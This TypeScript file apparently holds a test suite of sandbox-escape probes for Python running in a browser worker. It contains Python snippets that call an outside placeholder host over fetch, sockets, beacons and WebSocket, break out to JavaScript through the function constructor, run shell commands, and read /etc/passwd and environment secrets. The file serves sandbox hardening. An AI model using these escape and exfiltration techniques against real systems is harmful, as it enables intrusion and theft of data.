import { THROUGH, type Attack } from './attack.ts';

/** Python that looks for JavaScript: each asks by `js`, and by the constructor of a function. */
const viaJs = (tries: string, code: string): Attack => ({
  tries,
  language: 'python',
  program: `try:\n    import js\n    ${code}\n    print('${THROUGH.slice(0, 3)}' + '${THROUGH.slice(3)}')\nexcept BaseException as error:\n    print('refused', type(error).__name__)\n`,
  says: 'refused',
  never: THROUGH,
});

/** Attacks on the network, the page and the channel of verdicts, from Python. */
export const PYTHON_REACH: readonly Attack[] = [
  viaJs(`Python reaches fetch`, `js.fetch('{outside}/fetch')`),
  viaJs(
    `Python reaches XMLHttpRequest`,
    `x = js.XMLHttpRequest.new(); x.open('GET', '{outside}/xhr', False); x.send()`,
  ),
  viaJs(`Python reaches WebSocket`, `js.WebSocket.new('{outside}/ws'.replace('http', 'ws'))`),
  viaJs(`Python reaches EventSource`, `js.EventSource.new('{outside}/es')`),
  viaJs(`Python reaches an image`, `i = js.Image.new(); i.src = '{outside}/img'`),
  viaJs(`Python reaches a beacon`, `js.navigator.sendBeacon('{outside}/beacon', 'x')`),
  viaJs(`Python reaches importScripts`, `js.importScripts('{outside}/import.js')`),
  viaJs(`Python reaches WebRTC`, `js.RTCPeerConnection.new()`),
  viaJs(`Python reaches another worker`, `js.Worker.new('{outside}/worker.js')`),
  viaJs(`Python reaches IndexedDB of the site`, `js.indexedDB.open('plumbline')`),
  viaJs(`Python reaches local storage of the site`, `js.localStorage.getItem('x')`),
  viaJs(`Python reaches the document of the site`, `js.parent.document.title`),
  viaJs(`Python reaches the caches of the site`, `js.caches.open('plumbline-engine')`),
  viaJs(`Python reaches postMessage of its worker`, `js.postMessage({'type': 'exit', 'code': 0})`),
  viaJs(`Python reaches closing its worker`, `js.close()`),
  {
    tries: `Python evaluates JavaScript by the constructor of a function`,
    language: 'python',
    program: `try:
    import pyodide_js
    pyodide_js.constructor.constructor("return fetch('{outside}/ctor')")()
    print('GOT' + '-THROUGH')
except BaseException:
    print('refused')
`,
    says: `refused`,
    never: THROUGH,
  },
  {
    tries: `Python runs JavaScript by run_js`,
    language: 'python',
    program: `try:
    from pyodide.code import run_js
    run_js("fetch('{outside}/runjs')")
    print('GOT' + '-THROUGH')
except BaseException:
    print('refused')
`,
    says: `refused`,
    never: THROUGH,
  },
  {
    tries: `Python fetches with urllib`,
    language: 'python',
    program: `import urllib.request
try:
    urllib.request.urlopen('{outside}/urllib', timeout=3).read()
    print('GOT' + '-THROUGH')
except BaseException:
    print('refused')
`,
    says: `refused`,
    never: THROUGH,
  },
  {
    tries: `Python opens a socket`,
    language: 'python',
    program: `import socket
from urllib.parse import urlparse
u = urlparse('{outside}')
try:
    s = socket.create_connection((u.hostname, u.port), timeout=3)
    s.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')
    print('GOT' + '-THROUGH', s.recv(10))
except BaseException:
    print('refused')
`,
    says: `refused`,
    never: THROUGH,
  },
  {
    tries: `Python asks the names service`,
    language: 'python',
    program: `import socket
try:
    print(socket.gethostbyname('outside.invalid'))
except BaseException:
    print('refused')
`,
    never: THROUGH,
  },
  {
    tries: `Python starts a program of the machine`,
    language: 'python',
    program: `import os
try:
    print('code', os.system('id'))
except BaseException:
    print('refused')
`,
    // It runs the lab's own.
    says: 'uid=1000(lab)',
    never: /uid=(?!1000\(lab\))/,
  },
  {
    tries: `Python forks`,
    language: 'python',
    program: `import os
try:
    os.fork()
    print('GOT' + '-THROUGH')
except BaseException:
    print('refused')
`,
    says: `refused`,
    never: THROUGH,
  },
  {
    tries: `Python reads the files of the machine`,
    language: 'python',
    program: `try:
    print(open('/etc/passwd').read())
except BaseException:
    print('refused')
`,
    says: `refused`,
    never: `root:`,
  },
  {
    tries: `Python reads the environment of the machine`,
    language: 'python',
    program: `import os
print(sorted(os.environ))
`,
    says: `HOME`,
    never: `PLUMBLINE_SECRET`,
  },
];
